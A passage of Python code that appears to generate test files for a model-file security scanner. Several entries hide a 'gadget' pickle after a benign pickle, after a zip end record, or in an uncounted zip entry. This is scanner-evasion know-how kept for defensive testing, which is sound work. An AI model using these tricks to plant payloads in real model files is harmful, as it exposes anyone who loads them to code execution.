    c.add("polyglot_data_pkl.pt", "polyglot:trailing-bytes", "format", True, "data.pkl followed by a gadget pickle",
          lambda p: torch_zip(p, main + gadget))
    c.add("polyglot_plain.pkl", "polyglot:trailing-bytes", "format", True, "plain pickle followed by a gadget pickle",
          lambda p: write(p, p2(b"N") + gadget))
    c.add("polyglot_tar_pickle.pt", "polyglot:trailing-bytes", "format", True, "tar pickle member followed by a gadget",
          lambda p: tar_file(p, empty + [("pickle", p2(b"N") + gadget)]))
    c.add("polyglot_after_zip.pt", "polyglot:trailing-bytes", "format", True, "gadget pickle after the zip's end record",
          lambda p: (torch_zip(p, main), write(p, open(p, "rb").read() + gadget)))
    c.add("zip_hidden_entry.pt", "zip:end-record", "format", True, "end record counts one entry less than the directory",
          hidden_entry)
    c.add("tar_bad_byte_order.pt", "tar:sys-info", "format", False, "tar sys_info whose byte-order flag is not a flag",
          lambda p: tar_file(p, [("sys_info", pickle.dumps(info, protocol=2))] + empty + [("pickle", p2(b"N"))]))
